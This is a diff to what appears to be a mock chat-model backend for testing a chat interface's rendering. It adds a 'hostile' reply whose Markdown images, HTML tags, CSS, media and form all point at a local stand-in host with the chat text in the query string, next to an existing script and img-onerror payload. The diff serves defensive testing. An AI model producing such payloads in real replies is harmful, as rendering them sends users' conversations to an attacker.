@@ -24,6 +24,7 @@ request it makes:
     empty                 finishes without any text
     huge                  a reply of 200,000 characters
     html                  a reply carrying an <img onerror> and a <script> payload, plus Markdown
+    hostile-<port>        a reply whose images, media, CSS and form all point at http://127.0.0.1:<port>
     chunks-<n>-<ms>       <n> chunks of one word, <ms> apart (benchmarks)
     echo-<ms>             the plain echo, one word every <ms> (soak: slow, and checkable per chat)
 
@@ -52,6 +53,26 @@ INJECTION_REPLY = (
     'Here is **bold** and `code`.\n\n<img src=x onerror="window.__pwned=1">'
     "<script>window.__pwned=2</script>\n\n```python\nprint('hi')\n```"
 )
+
+
+def hostile_reply(attacker: str) -> str:
+    """Every way a rendered reply could make the browser fetch from elsewhere (the chat text would
+    ride in the query string), around markdown, code and LaTeX that must still render."""
+    leak = "?q=the+chat+so+far"
+    return (
+        "Hostile reply: **bold** text.\n\n"
+        f"![chart]({attacker}/md-image{leak})\n\n"
+        f'<img src="{attacker}/img-tag{leak}">\n\n'
+        f'<svg width="10" height="10"><image href="{attacker}/svg-image{leak}" width="10" height="10"/></svg>\n\n'
+        f'<div style="background-image: url({attacker}/css-url{leak})">styled</div>\n\n'
+        f'<video src="{attacker}/video{leak}" autoplay muted></video>\n\n'
+        f'<audio src="{attacker}/audio{leak}" autoplay></audio>\n\n'
+        f'<video poster="{attacker}/video-poster{leak}"></video>\n\n'
+        f'<form action="{attacker}/form" method="get"><input name="q" value="x"><button id="hostile-submit">Go</button>'
+        "</form>\n\n"
+        "```python\nprint('code block')\n```\n\n"
+        "$$E = mc^2$$\n"
+    )
 
 
 @dataclass
@@ -337,6 +358,9 @@ def _reply_plan(model: str, body: dict[str, Any]) -> tuple[list[str], float]:
         return ["x" * 1000] * 200, 0.0
     if model == "html":
         return [INJECTION_REPLY[i : i + 20] for i in range(0, len(INJECTION_REPLY), 20)], 0.0
+    if m := re.fullmatch(r"hostile-(\d+)", model):
+        reply = hostile_reply(f"http://127.0.0.1:{m.group(1)}")
+        return [reply[i : i + 40] for i in range(0, len(reply), 40)], 0.0
     last_user = next(
         (m.get("content", "") for m in reversed(body.get("messages") or []) if m.get("role") == "user"),
         "",
